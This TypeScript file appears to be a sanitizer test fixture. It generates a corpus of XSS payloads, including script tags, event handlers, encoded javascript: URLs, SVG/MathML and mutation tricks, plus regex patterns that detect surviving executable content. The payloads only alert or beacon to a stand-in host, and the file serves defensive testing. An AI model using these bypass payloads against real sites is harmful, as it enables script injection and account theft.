/**
 * The XSS corpus: HTML payloads that, if any part of them ran, would call
 * alert('XSS-n'), set window.__xss, or request https://xss.invalid/XSS-n. The
 * tests watch for all three. Written for this project from the well-known
 * families (script tags, event handlers, javascript:/data:/vbscript: URLs and
 * their encodings, SVG and MathML namespace tricks, mutation XSS, CSS).
 */
export interface XssPayload {
  id: string;
  family: 'script' | 'handler' | 'url' | 'svg' | 'mathml' | 'css' | 'mutation' | 'embed';
  html: string;
}

/** Templates: `$A` becomes alert('XSS-n'), `$U` a beacon URL, `$J` a javascript: URL that alerts. */
const TEMPLATES: Array<[XssPayload['family'], string]> = [
  // Script tags
  ['script', '<script>$A</script>'],
  ['script', '<SCRIPT>$A</SCRIPT>'],
  ['script', '<script src="$U.js"></script>'],
  ['script', '<script/xss src="$U.js"></script>'],
  ['script', '<<script>$A;//<</script>'],
  ['script', '<scr<script>ipt>$A</scr</script>ipt>'],
  ['script', '</title></style></textarea><script>$A</script>'],
  ['script', '<script type="module">$A</script>'],
  ['script', '<script>window.__xss="$N"</script>'],
  ['script', '<template><script>$A</script></template>'],
  ['script', '<noscript><p title="</noscript><img src=x onerror=$A>"></noscript>'],
  ['script', '<![CDATA[<script>$A</script>]]>'],
  ['script', '<!--<img src="--><img src=x onerror=$A//">'],
  // Event handlers
  ['handler', '<img src=x onerror=$A>'],
  ['handler', '<img src=x onerror="&#97;&#108;&#101;&#114;&#116;(\'$N\')">'],
  ['handler', '<img src="x" onerror="window.__xss=\'$N\'">'],
  ['handler', '<IMG SRC=/ onerror="eval(atob(\'$B64\'))"></img>'],
  ['handler', '<img """><script>$A</script>">'],
  ['handler', '<body onload=$A>'],
  ['handler', '<body onpageshow=$A>'],
  ['handler', '<input autofocus onfocus=$A>'],
  ['handler', '<select autofocus onfocus=$A></select>'],
  ['handler', '<textarea autofocus onfocus=$A></textarea>'],
  ['handler', '<details open ontoggle=$A><summary>x</summary></details>'],
  ['handler', '<video><source onerror=$A></video>'],
  ['handler', '<audio src=x onerror=$A></audio>'],
  ['handler', '<marquee onstart=$A>x</marquee>'],
  ['handler', '<div onmouseover=$A style="position:fixed;inset:0">hover</div>'],
  ['handler', '<a onclick=$A href="#">click</a>'],
  ['handler', '<p onpointerenter=$A>enter</p>'],
  ['handler', '<x contenteditable onfocus=$A autofocus>x</x>'],
  ['handler', '<style onload=$A></style>'],
  ['handler', '<iframe onload=$A></iframe>'],
  ['handler', '<object data=x onerror=$A></object>'],
  ['handler', '<input type=image src=x onerror=$A>'],
  ['handler', '<img src=x oNeRrOr=$A>'],
  ['handler', '<img src=x onerror\t=\t$A>'],
  ['handler', '<img/src=x/onerror=$A>'],
  ['handler', '<span data-lexical-text="true" onmouseover=$A>lexical span</span>'],
  ['handler', '<form><button formaction="$J">go</button></form>'],
  // URLs
  ['url', '<a href="$J">link</a>'],
  ['url', '<a href="JaVaScRiPt:alert(\'$N\')">link</a>'],
  ['url', '<a href="jav&#x09;ascript:alert(\'$N\')">link</a>'],
  ['url', '<a href="java&Tab;script:alert(\'$N\')">link</a>'],
  ['url', '<a href="java&NewLine;script:alert(\'$N\')">link</a>'],
  ['url', '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(\'$N\')">link</a>'],
  ['url', '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(\'$N\')">link</a>'],
  ['url', '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(\'$N\')">link</a>'],
  ['url', '<a href="  javascript:alert(\'$N\')">link</a>'],
  ['url', '<a href="&#14;javascript:alert(\'$N\')">link</a>'],
  ['url', '<a href="javascript&colon;alert(\'$N\')">link</a>'],
  ['url', '<a href="javascript://%0aalert(\'$N\')">link</a>'],
  ['url', '<a href="vbscript:msgbox(\'$N\')">link</a>'],
  ['url', '<a href="data:text/html,<script>$A</script>">link</a>'],
  ['url', '<a href="data:text/html;base64,$HTML64">link</a>'],
  ['url', '<a href="DATA:text/html,<script>$A</script>">link</a>'],
  ['url', '<a href="data:image/svg+xml,<svg onload=$A>">link</a>'],
  ['url', '<a href="livescript:alert(\'$N\')">link</a>'],
  ['url', '<a href="file:///etc/passwd">link</a>'],
  ['url', '<a href="$J" target=_blank rel=opener>link</a>'],
  ['url', '<iframe src="$J"></iframe>'],
  ['url', '<iframe src="data:text/html,<script>$A</script>"></iframe>'],
  ['url', '<iframe srcdoc="<script>parent.alert(\'$N\')</script>"></iframe>'],
  ['url', '<form action="$J"><input type=submit></form>'],
  ['url', '<base href="$J/">'],
  ['url', '<meta http-equiv="refresh" content="0;url=$J">'],
  ['url', '<isindex action="$J" type=image>'],
  ['url', '<video poster="$J"></video>'],
  ['url', '<table background="$J"><tr><td>x</td></tr></table>'],
  ['url', '<img src="$U.png">'],
  ['url', '<img srcset="$U.png 1x">'],
  ['url', '<picture><source srcset="$U.png"><img src=x></picture>'],
  ['url', '<a href="https://ok.example/" ping="$U">ping</a>'],
  // SVG
  ['svg', '<svg><script>$A</script></svg>'],
  ['svg', '<svg onload=$A>'],
  ['svg', '<svg/onload=$A>'],
  ['svg', '<svg><animate onbegin=$A attributeName=x dur=1s>'],
  ['svg', '<svg><a xlink:href="$J"><text x=10 y=10>svg link</text></a></svg>'],
  ['svg', '<svg><a><animate attributeName=href values="$J"/><text x=10 y=10>anim</text></a></svg>'],
  ['svg', '<svg><set attributeName=onmouseover to=$A /></svg>'],
  ['svg', '<svg><image href="$U.png"/></svg>'],
  ['svg', '<svg><foreignObject><iframe srcdoc="<script>parent.alert(\'$N\')</script>"></iframe></foreignObject></svg>'],
  ['svg', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><image href=1 onerror=$A /></svg>#x"/></svg>'],
  ['svg', '<svg><style><img src=x onerror=$A></style></svg>'],
  ['svg', '<svg></p><style><a id="</style><img src=1 onerror=$A>">'],
  ['svg', '<svg><title><![CDATA[</title><img src=x onerror=$A>]]></svg>'],
  // MathML
  ['mathml', '<math><mtext><table><mglyph><style><img src=x onerror=$A></style></mglyph></table></mtext></math>'],
  ['mathml', '<math href="$J">CLICK</math>'],
  ['mathml', '<math><mi xlink:href="$J">x</mi></math>'],
  ['mathml', '<math><maction actiontype="statusline" xlink:href="$J">CLICK<mtext>x</mtext></maction></math>'],
  ['mathml', '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=$A src>">'],
  ['mathml', '<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=$A>"></style></h1>'],
  ['mathml', '<math><annotation-xml encoding="text/html"><img src=x onerror=$A></annotation-xml></math>'],
  // CSS
  ['css', '<div style="background:url($J)">css</div>'],
  ['css', '<div style="width: expression($A)">css</div>'],
  ['css', '<p style="x:expr/**/ession($A)">css</p>'],
  ['css', '<div style="background-image:url($U.png)">css beacon</div>'],
  ['css', '<span style="background:url(&quot;$U.png&quot;)">css beacon</span>'],
  ['css', '<style>@import "$U.css";</style>'],
  ['css', '<style>body{background:url("$U.png")}</style>'],
  ['css', '<link rel=stylesheet href="$U.css">'],
  ['css', '<div style="behavior:url($U.htc)">css</div>'],
  ['css', '<div style="-moz-binding:url($U.xml#x)">css</div>'],
  ['css', '<p style="font-family:\'</style><script>$A</script>\'">css</p>'],
  // Mutation and parser confusion
  ['mutation', '<noembed><img title="</noembed><img src onerror=$A>"></noembed>'],
  ['mutation', '<xmp><img title="</xmp><img src onerror=$A>"></xmp>'],
  ['mutation', '<noframes><img title="</noframes><img src onerror=$A>"></noframes>'],
  ['mutation', '<textarea><img title="</textarea><img src onerror=$A>"></textarea>'],
  ['mutation', '<title><img title="</title><img src onerror=$A>"></title>'],
  ['mutation', '<p id="</p><img src=x onerror=$A>">quoted</p>'],
  ['mutation', '<img src="x\u0000" onerror=$A>'],
  ['mutation', '<a href="https://ok.example/\u0000javascript:alert(\'$N\')">nul</a>'],
  ['mutation', '<div><!--</div><img src=x onerror=$A>--></div>'],
  ['mutation', '<table><td><img src=x onerror=$A></td></table>'],
  // Embedded content
  ['embed', '<object data="data:text/html,<script>$A</script>"></object>'],
  ['embed', '<embed src="data:image/svg+xml,<svg onload=$A>">'],
  ['embed', '<object type="text/x-scriptlet" data="$U.sct"></object>'],
  ['embed', '<applet code="x" codebase="$U"></applet>'],
  ['embed', '<portal src="$U"></portal>'],
  ['embed', '<link rel=import href="$U.html">'],
];

export const BEACON_HOST = 'xss.invalid';

function base64(text: string): string {
  return Buffer.from(text, 'utf8').toString('base64');
}

export function xssCorpus(): XssPayload[] {
  return TEMPLATES.map(([family, template], index) => {
    const name = `XSS-${String(index + 1).padStart(3, '0')}`;
    const html = template
      .replaceAll('$HTML64', base64(`<script>alert('${name}')</script>`))
      .replaceAll('$B64', base64(`alert('${name}')`))
      .replaceAll('$A', `alert('${name}')`)
      .replaceAll('$J', `javascript:alert('${name}')`)
      .replaceAll('$U', `https://${BEACON_HOST}/${name}`)
      .replaceAll('$N', name);
    return { id: name, family, html };
  });
}

/** Strings that must not appear in stored or exported output: each one means executable content survived. */
export const EXECUTABLE_MARKERS: Array<[string, RegExp]> = [
  ['<script> (other than JSON-LD)', /<script(?![^>]*type="application\/ld\+json")[\s>/]/i],
  ['event-handler attribute', /<[^>]+\s(on[a-z]+)\s*=/i],
  ['javascript: URL', /(href|src|action|formaction|poster|background|xlink:href|data)\s*=\s*["']?\s*(javascript|vbscript|livescript):/i],
  ['data: URL in a link or frame', /(href|src|action|formaction|data)\s*=\s*["']?\s*data:/i],
  ['embedded content', /<(iframe|object|embed|applet|portal|frame|frameset|base|meta|link|form|svg|math)[\s>/]/i],
  ['CSS expression or behavior', /(expression\s*\(|behavior\s*:|-moz-binding)/i],
  ['beacon URL', /xss\.invalid/i],
];
